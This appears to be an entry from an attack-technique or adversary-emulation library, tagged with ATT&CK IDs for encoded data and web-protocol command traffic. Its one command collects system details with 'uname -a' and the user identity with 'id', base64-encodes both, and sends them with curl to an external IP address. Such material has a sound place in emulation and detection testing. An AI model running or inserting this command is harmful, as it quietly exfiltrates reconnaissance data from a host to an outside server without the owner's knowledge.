# title: What is said to the server is in base64
# technique: T1132.001 T1071.001
# needs: curl base64

curl -s "http://192.88.99.7/q?d=$(uname -a | base64 -w0)"; id | base64 | curl -s -d @- http://192.88.99.7/r
